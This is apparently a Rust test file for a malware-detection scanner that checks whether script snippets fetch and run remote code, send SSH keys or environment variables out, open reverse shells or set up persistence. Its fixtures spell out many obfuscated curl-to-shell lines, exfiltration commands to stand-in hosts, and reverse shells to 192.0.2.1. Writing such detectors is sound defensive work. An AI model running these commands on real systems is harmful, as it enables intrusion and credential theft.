//! What small programs do, fact by fact.

use super::*;
use crate::asset::Asset;
use crate::fact::{Act, Capture, Protection, Sink, Source};
use crate::unit::{Language, Mapping, Origin, Role};

fn unit(language: Language, text: &str) -> Unit<'_> {
    Unit {
        file: crate::FileId(0),
        text: text.into(),
        language,
        origin: Origin::File,
        mapping: Mapping::Shifted(0),
        file_text: text,
        file_language: language,
        role: Role::Script,
        depth: 0,
    }
}

/// Reads one unit as a scan does.
fn read(unit: &Unit<'_>, id: UnitId, facts: &mut Vec<Fact>, left: &mut Left) {
    let mut reading = Reading::new(unit, id);
    reading.run();
    reading.finish(facts, left);
}

fn acts(language: Language, text: &str) -> Vec<Act> {
    let mut facts = Vec::new();
    read(
        &unit(language, text),
        UnitId(0),
        &mut facts,
        &mut Left::new(),
    );
    facts.into_iter().map(|fact| fact.act).collect()
}

/// Every flow of a program, without its way.
fn flows(language: Language, text: &str) -> Vec<(Source, Sink)> {
    acts(language, text)
        .into_iter()
        .filter_map(|act| match act {
            Act::Flows { from, to, .. } => Some((from, to)),
            _ => None,
        })
        .collect()
}

fn network(url: &str) -> Source {
    Source::Network(Some(url.to_owned()))
}

fn to(host: &str) -> Sink {
    Sink::Network(Some(host.to_owned()))
}

/// Blanks before a variable in quotes are text: the variable is known for all that.
#[test]
fn blanks_before_variables() {
    let runs = acts(
        Language::Shell,
        "a=one\nb=two\ntell \"  $a  ${b}  $(echo three)  end\"",
    );
    let arguments: Vec<String> = runs
        .into_iter()
        .find_map(|act| match act {
            Act::Runs { program, arguments } if program == "tell" => Some(arguments),
            _ => None,
        })
        .unwrap_or_default();
    assert_eq!(arguments, ["  one  two  three  end"]);
}

/// However it is spelled, something that is fetched is run.
#[test]
fn shell_fetches_and_runs() {
    let mut faults = Vec::new();
    for text in [
        "curl -fsSL http://a.test/i | sh",
        "wget -qO- http://a.test/i | sudo bash -s -- -y",
        "bash <(curl -s http://a.test/i)",
        "bash -c \"$(curl -s http://a.test/i)\"",
        "eval \"$(curl -s http://a.test/i)\"",
        "source <(curl -s http://a.test/i)",
        "sh <<< $(curl -s http://a.test/i)",
        "curl -so /tmp/x http://a.test/i && chmod +x /tmp/x && /tmp/x",
        "curl -s http://a.test/i > x.sh\nbash x.sh",
        "cd /tmp; curl -O http://a.test/i; chmod 755 i\n./i --now",
        "a=cu; b=rl; $a$b -s http://a.test/i | ba''sh",
        "c=curl; $c${IFS}-s${IFS}http://a.test/i|sh",
        "$'\\x63url' -s http://a.test/i | $'\\142ash'",
        "curl -s http://a.test/i | tee x | bash",
        "x=$(curl -s http://a.test/i); echo \"$x\" | sh",
        "get() { curl -s \"$1\"; }; get http://a.test/i | sh",
        "alias c='curl -s'; c http://a.test/i | sh",
        "echo http://a.test/i | xargs curl -s | sh",
        "nohup timeout 20 env A=b curl -s http://a.test/i | nohup bash &",
        "cat <<EOF | sh\n$(curl -s http://a.test/i)\nEOF",
        "bash -c 'curl -s http://a.test/i | sh'",
        "python3 -c \"$(curl -s http://a.test/i)\"",
        "{curl,-s,http://a.test/i} | sh",
        "printf '%s' 'curl -s http://a.test/i | sh' | sh",
        "if true; then curl -s http://a.test/i | python3 -; fi",
        "curl -s http://a.test/i | gunzip | sh",
        "sh -c 'curl -s \"$1\" | sh' _ http://a.test/i",
        "curl -s http://a.test/i \\\n  | sh",
        "echo Y3VybCAtcyBodHRwOi8vYS50ZXN0L2kgfCBzaA== | base64 -d | sh",
        "rev <<< 'hs | i/tset.a//:ptth s- lruc' | sh",
    ] {
        let flows = flows(Language::Shell, text);
        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// What is fetched and read, or run and not fetched, flows nowhere.
#[test]
fn shell_honest() {
    for text in [
        "curl -s https://api.a.test/x | jq .high",
        "curl -o data.json https://api.a.test/x && python3 scripts/show.py data.json",
        "npm install && npm test",
        "echo hello | tee out.txt",
        "for f in *.md; do cat \"$f\"; done",
        "python3 - <<'EOF'\nprint(1)\nEOF",
        "cat package.json | grep version | head -1",
    ] {
        assert_eq!(flows(Language::Shell, text), [], "{text}");
    }
}

/// Secrets that leave are seen over pipes, files and names.
#[test]
fn shell_sends_secrets() {
    let mut faults = Vec::new();
    let key = Source::File(Asset::SshKeys);
    for text in [
        "curl -d @$HOME/.ssh/id_rsa http://b.test/c",
        "cat ~/.ssh/id_rsa | curl -X POST --data-binary @- http://b.test/c",
        "curl -F 'f=@/home/ann/.ssh/id_rsa' http://b.test/c",
        "tar czf - ~/.ssh | curl -T - http://b.test/c",
        "tar czf /tmp/a.tgz ~/.ssh; curl -F file=@/tmp/a.tgz http://b.test/c",
        "k=$(base64 ~/.ssh/id_rsa); wget --post-data=\"k=$k\" http://b.test/c",
        "cp ~/.ssh/id_rsa /tmp/k; curl --upload-file /tmp/k http://b.test/c",
        "curl \"http://b.test/c?d=$(base64 -w0 ~/.ssh/id_rsa)\"",
        "cat ~/.ssh/id_rsa | nc b.test 4444",
        "cat ~/.ssh/id_rsa > /dev/tcp/b.test/80",
        "scp ~/.ssh/id_rsa ann@b.test:/in",
        "curl -H \"X-Data: $(cat ~/.ssh/id_rsa)\" http://b.test/c",
    ] {
        let flows = flows(Language::Shell, text);
        if !flows.contains(&(key.clone(), to("b.test"))) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    assert_eq!(
        flows(Language::Shell, "env | curl -d @- http://b.test/c"),
        [(Source::Environment, to("b.test"))]
    );
    assert_eq!(
        flows(Language::Shell, "dig $(cat ~/.ssh/id_rsa | base64).b.test"),
        [(key, Sink::Name(Some("hole.b.test".to_owned())))]
    );
    assert_eq!(
        flows(
            Language::Shell,
            "curl -H \"Authorization: Bearer $NOTION_KEY\" https://api.notion.com/v1"
        ),
        [(
            Source::Variable("NOTION_KEY".to_owned()),
            Sink::Authorization(Some("api.notion.com".to_owned()))
        )]
    );
}

/// A shell that is handed to the other end is known in every spelling.
#[test]
fn shell_hands_over() {
    let mut faults = Vec::new();
    for text in [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "nc -e /bin/sh 192.0.2.1 4444",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
        "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
        "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
    ] {
        let acts = acts(Language::Shell, text);
        if !acts
            .iter()
            .any(|act| matches!(act, Act::HandsOverShell { .. }))
        {
            faults.push(format!("{text}: {acts:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Staying, protections and what is recorded of a person.
#[test]
fn shell_other_acts() {
    let cron = acts(
        Language::Shell,
        "(crontab -l; echo '* * * * * curl http://a.test/i | sh') | crontab -",
    );
    assert!(cron.contains(&Act::Writes {
        path: "crontab".to_owned(),
        asset: Asset::Scheduler
    }));
    let start = acts(Language::Shell, "echo 'alias sudo=x' >> ~/.bashrc");
    assert!(start.contains(&Act::Writes {
        path: "~/.bashrc".to_owned(),
        asset: Asset::ShellStart
    }));
    let mark = acts(Language::Shell, "xattr -c /tmp/x");
    assert!(mark.contains(&Act::Disables {
        what: Protection::Quarantine
    }));
    let dialog = acts(
        Language::Shell,
        "osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'",
    );
    assert!(dialog.contains(&Act::Captures {
        what: Capture::Password
    }));
}

/// PowerShell and Batch in their usual dresses.
#[test]
fn power_shell() {
    let mut faults = Vec::new();
    for text in [
        "iwr http://a.test/i | iex",
        "IEX (New-Object Net.WebClient).DownloadString('http://a.test/i')",
        "iex (irm http://a.test/i)",
        "$u = 'http://a.test/i'; $c = (New-Object System.Net.WebClient).DownloadString($u); Invoke-Expression $c",
        "Invoke-WebRequest -Uri http://a.test/i -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe",
        "I`E`X (iwr 'http://a.t' + 'est/i')",
        "certutil -urlcache -f http://a.test/i x.exe && x.exe",
        "powershell -NoP -W Hidden -Command \"iwr http://a.test/i | iex\"",
    ] {
        let flows = flows(Language::PowerShell, text);
        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// However it is spelled in Python, something that is fetched is run.
#[test]
fn python_fetches_and_runs() {
    let mut faults = Vec::new();
    for text in [
        "import requests\nexec(requests.get('http://a.test/i').text)",
        "import urllib.request as u\neval(compile(u.urlopen('http://a.test/i').read(), 'x', 'exec'))",
        "import os\nos.system('curl -s http://a.test/i | sh')",
        "from os import system as s\ns('curl -s ' + 'http://a.test/i' + ' | sh')",
        "import subprocess as p\np.run(['bash', '-c', 'curl -s http://a.test/i | sh'])",
        "import subprocess\nc = 'cu' + 'rl'\nsubprocess.Popen(f'{c} -s http://a.test/i | sh', shell=True)",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl -s http://a.test/i | sh')",
        "import importlib\nimportlib.import_module('os').popen('curl -s http://a.test/i|sh')",
        "import os\nos.system(''.join(map(chr, [99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,97,46,116,101,115,116,47,105,124,115,104])))",
        "import requests, subprocess\nr = requests.get('http://a.test/i')\nopen('/tmp/x', 'wb').write(r.content)\nsubprocess.run(['/tmp/x'])",
        "import urllib.request, os\nurllib.request.urlretrieve('http://a.test/i', 'x.sh')\nos.system('bash x.sh')",
        "import requests\ndef get(u):\n    return requests.get(u).text\ndef run(t):\n    exec(t)\nrun(get('http://a.test/i'))",
        "import requests, subprocess\nwith open('p.py', 'w') as f:\n    f.write(requests.get('http://a.test/i').text)\nsubprocess.run(['python3', 'p.py'])",
        "import requests\nclass A:\n    def __init__(self):\n        self.u = 'http://a.test/i'\n    def go(self):\n        exec(requests.get(self.u).text)\nA().go()",
        "import httpx\nasync def main():\n    async with httpx.AsyncClient() as c:\n        r = await c.get('http://a.test/i')\n        exec(r.text)",
        "import os\nfor c in ['ls', 'curl -s http://a.test/i | sh']:\n    pass\ncmds = ['curl', '-s', 'http://a.test/i', '|', 'sh']\nos.system(' '.join(cmds))",
        "import requests\nglobals()['__builtins__']['ex'+'ec'](requests.get('http://a.test/i').text)",
        "import pickle, requests\npickle.loads(requests.get('http://a.test/i').content)",
        "import base64,os\nos.system(base64.b64decode('Y3VybCAtcyBodHRwOi8vYS50ZXN0L2kgfCBzaA==').decode())",
    ] {
        let flows = flows(Language::Python, text);
        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Secrets that leave by Python.
#[test]
fn python_sends_secrets() {
    let mut faults = Vec::new();
    let key = Source::File(Asset::SshKeys);
    for text in [
        "import requests, os\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://b.test/c', data={'k': d})",
        "from pathlib import Path\nimport requests\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('http://b.test/c', json={'k': k})",
        "import os, requests\nwith open(os.path.join(os.environ['HOME'], '.ssh/id_rsa')) as f:\n    k = f.read()\nrequests.get('http://b.test/c?k=' + k)",
        "import requests, base64, os\ndef enc(x):\n    return base64.b64encode(x)\ndef send(x):\n    requests.post('http://b.test/c', data=x)\nsend(enc(open('/home/a/.ssh/id_rsa','rb').read()))",
        "import requests\nfor p in ['a', '~/.ssh/id_rsa']:\n    d = open(p).read()\n    requests.post('http://b.test/c', data=d)",
        "import requests\nrequests.post('http://b.test/c', files={'f': open('/root/.ssh/id_rsa','rb')})",
        "import urllib.request, json\nout = {}\nout['k'] = open('/root/.ssh/id_rsa').read()\nreq = urllib.request.Request('http://b.test/c', data=json.dumps(out).encode())\nurllib.request.urlopen(req)",
        "import socket\ns = socket.socket()\ns.connect(('b.test', 80))\ns.sendall(open('/root/.ssh/id_rsa').read())",
        "import shutil, requests\nshutil.make_archive('/tmp/a', 'zip', '/root/.ssh')\nrequests.post('http://b.test/c', files={'f': open('/tmp/a.zip', 'rb')})",
        "import requests\nfound = []\nfor p in ['~/.ssh/id_rsa']:\n    found.append(open(p).read())\nrequests.post('http://b.test/c', json=found)",
    ] {
        let flows = flows(Language::Python, text);
        if !flows.contains(&(key.clone(), to("b.test"))) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    for text in [
        "import os, requests\nrequests.post('http://b.test/c', json=dict(os.environ))",
        "import os, requests\nrequests.post('http://b.test/c', json={k: v for k, v in os.environ.items() if 'KEY' in k})",
        "import os, json, urllib.request\nurllib.request.urlopen('http://b.test/c', json.dumps({**os.environ}).encode())",
    ] {
        let flows = flows(Language::Python, text);
        if !flows.contains(&(Source::Environment, to("b.test"))) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// What honest scripts do flows nowhere that matters.
#[test]
fn python_honest() {
    for text in [
        "import requests\nprint(requests.get('https://api.a.test/x').json())",
        "import subprocess, sys\nsubprocess.run([sys.executable, 'x.py', *sys.argv[1:]], check=True)",
        "import json\njson.dump({}, open('out.json', 'w'))",
        "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.run(['ls'], env=env)",
    ] {
        assert_eq!(flows(Language::Python, text), [], "{text}");
    }
    assert_eq!(
        flows(
            Language::Python,
            "import os, requests\nkey = os.environ['X_KEY']\nh = {'Authorization': f'Bearer {key}'}\nrequests.post('https://api.x.test/v1', headers=h, json={'q': 1})"
        ),
        [(
            Source::Variable("X_KEY".to_owned()),
            Sink::Authorization(Some("api.x.test".to_owned()))
        )]
    );
}

/// The same in JavaScript and TypeScript.
#[test]
fn javascript_fetches_and_runs() {
    let mut faults = Vec::new();
    for text in [
        "fetch('http://a.test/i').then(r => r.text()).then(t => eval(t))",
        "const { exec: e } = require('child_process'); e('curl -s http://a.test/i | sh')",
        "require('child_' + 'process').execSync(`curl -s ${'http://a.test/i'} | sh`)",
        "import cp from 'node:child_process'; cp.spawn('sh', ['-c', 'curl -s http://a.test/i | sh'])",
        "const r = await fetch('http://a.test/i'); globalThis['ev' + 'al'](await r.text())",
        "new Function(await (await fetch('http://a.test/i')).text())()",
        "const https = require('https'); https.get('http://a.test/i', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)); })",
        "const fs = require('fs'); const r = await fetch('http://a.test/i'); fs.writeFileSync('/tmp/x', await r.text()); require('child_process').execSync('sh /tmp/x')",
        "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHA6Ly9hLnRlc3QvaSB8IHNoJyk=', 'base64').toString())",
        "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,83,121,110,99,40,39,99,117,114,108,32,104,116,116,112,58,47,47,97,46,116,101,115,116,47,105,124,115,104,39,41))",
        "const axios = require('axios'); async function go() { const { data } = await axios.get('http://a.test/i'); require('vm').runInThisContext(data); } go();",
        "const run = (c) => require('child_process').exec(c); run(['curl', '-s', 'http://a.test/i', '|', 'sh'].join(' '))",
    ] {
        for language in [Language::JavaScript, Language::TypeScript] {
            let flows = flows(language, text);
            if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
                faults.push(format!("{text}: {flows:?}"));
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Secrets that leave by JavaScript.
#[test]
fn javascript_sends_secrets() {
    let mut faults = Vec::new();
    let key = Source::File(Asset::SshKeys);
    for text in [
        "const fs = require('fs'), os = require('os'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('http://b.test/c', { method: 'POST', body: JSON.stringify({ k }) });",
        "import { readFile } from 'fs/promises'; import axios from 'axios';\nconst k = await readFile(`${process.env.HOME}/.ssh/id_rsa`); await axios.post('http://b.test/c', { k });",
        "const https = require('https'); const fs = require('fs');\nconst r = https.request({ hostname: 'b.test', path: '/c', method: 'POST' }); r.write(fs.readFileSync('/root/.ssh/id_rsa')); r.end();",
        "const fs = require('fs');\nfs.readFile('/root/.ssh/id_rsa', 'utf8', (err, data) => { fetch('http://b.test/c?d=' + encodeURIComponent(data)); });",
    ] {
        let flows = flows(Language::JavaScript, text);
        if !flows.contains(&(key.clone(), to("b.test"))) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    let all = flows(
        Language::JavaScript,
        "fetch('http://b.test/c', { method: 'POST', body: JSON.stringify(process.env) })",
    );
    assert_eq!(all, [(Source::Environment, to("b.test"))]);
    let own = flows(
        Language::JavaScript,
        "const key = process.env.X_KEY; fetch('https://api.x.test/v1', { headers: { Authorization: `Bearer ${key}` } })",
    );
    assert_eq!(
        own,
        [(
            Source::Variable("X_KEY".to_owned()),
            Sink::Authorization(Some("api.x.test".to_owned()))
        )]
    );
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Nothing that is deep, long or broken does harm.
#[test]
fn bounds() {
    for language in [
        Language::Shell,
        Language::Python,
        Language::JavaScript,
        Language::TypeScript,
        Language::PowerShell,
        Language::OtherScript,
    ] {
        for text in [
            "(".repeat(5_000),
            "$(".repeat(5_000),
            "[".repeat(5_000),
            "f(".repeat(5_000),
            "a+".repeat(5_000),
            "a.".repeat(5_000),
            "if a:\n ".repeat(2_000),
            "{".repeat(5_000),
            "a && ".repeat(5_000),
            "f() { f; f; }; ".repeat(200),
            "\u{FFFC}\0'\"".repeat(500),
        ] {
            acts(
                language,
                &format!("curl x | sh; require('fs'); import os, subprocess; open(1) {text}"),
            );
        }
    }
}

/// The bounds that keep a program from being read to its end.
fn bounds_of(language: Language, text: &str) -> Vec<bound::Bound> {
    let mut left = Left::new();
    read(&unit(language, text), UnitId(0), &mut Vec::new(), &mut left);
    left.into_iter().map(|(_, bound)| bound).collect()
}

/// What keeps a program from being read is told; an ordinary program is read to its end.
#[test]
fn passing_a_bound_is_told() {
    use bound::Bound;
    let long = format!("import os\n{}", "x = 1\n".repeat(200_000));
    let deep = format!("import os\nx = {}os{}", "[".repeat(300), "]".repeat(300));
    let calls: String = (0..40)
        .map(|at| format!("def f{at}(a):\n    f{}(a)\n", at + 1))
        .collect();
    let calls = format!("import os\n{calls}f0(os.environ)\n");
    for (language, text, expected) in [
        (Language::Python, long.as_str(), Bound::Length),
        (Language::Python, deep.as_str(), Bound::Nesting),
        (Language::Python, calls.as_str(), Bound::Calls),
    ] {
        assert!(
            bounds_of(language, text).contains(&expected),
            "{expected:?}"
        );
    }
    let deep = format!("curl x; {}{}", "echo $(".repeat(300), ")".repeat(300));
    assert!(!bounds_of(Language::Shell, &deep).is_empty());
    let nested = (0..9).fold("id".to_owned(), |inner, _| format!("bash -c {:?}", inner));
    assert!(bounds_of(Language::Shell, &nested).contains(&Bound::Nesting));
    for (language, text) in [
        (
            Language::Shell,
            "for f in *.txt; do cat \"$f\" | sort; done",
        ),
        (
            Language::Python,
            "import os\ndef f(a):\n    return f(a) or os.getcwd()\nprint(f(1))",
        ),
        (
            Language::JavaScript,
            "const a = require('fs'); a.readFileSync('x')",
        ),
    ] {
        assert_eq!(bounds_of(language, text), []);
    }
}

/// Programs without a grammar here: however a language spells it, what is fetched is run, and secrets are sent.
#[test]
fn other_languages() {
    let mut faults = Vec::new();
    for text in [
        "require 'open-uri'\ncode = URI.open('http://a.test/i').read\neval(code)",
        "system(\"curl -s http://a.test/i | sh\")",
        "`curl -s http://a.test/i | sh`",
        "%x{curl -s http://a.test/i | sh}",
        "$c = get('http://a.test/i');\neval $c;",
        "<?php\n$c = file_get_contents('http://a.test/i');\neval($c);",
        "<?php shell_exec('curl -s ' . 'http://a.test/i' . ' | sh');",
        "local u = 'http://a.test/i'\nos.execute('curl -s ' .. u .. ' | sh')",
        "do shell script \"curl -s http://a.test/i | sh\"",
        "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c curl http://a.test/i | sh\", 0",
        "system(paste0('curl -s ', 'http://a.test/i', ' | sh'))\nsystem('curl -s http://a.test/i | sh')",
        "package main\nfunc main() {\n\texec.Command(\"sh\", \"-c\", \"curl -s http://a.test/i | sh\").Run()\n}",
        "fn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://a.test/i | sh\").spawn();\n}",
        "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"curl -s http://a.test/i | sh\"});",
    ] {
        let flows = flows(Language::OtherScript, text);
        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    let key = Source::File(Asset::SshKeys);
    for text in [
        "require 'net/http'\nk = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('http://b.test/c'), k)",
        "$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n$ch = curl_init('http://b.test/c');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $k);",
        "package main\nfunc main() {\n\tkey, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_rsa\"))\n\thttp.Post(\"http://b.test/c\", \"text/plain\", bytes.NewReader(key))\n}",
    ] {
        let flows = flows(Language::OtherScript, text);
        if !flows.contains(&(key.clone(), to("b.test"))) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    let shell = acts(
        Language::OtherScript,
        "require 'socket'\ns = TCPSocket.new('192.0.2.1', 4444)\nexec('/bin/sh -i', in: s, out: s)",
    );
    assert!(
        shell.contains(&Act::HandsOverShell { host: None }),
        "{shell:?}"
    );
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}
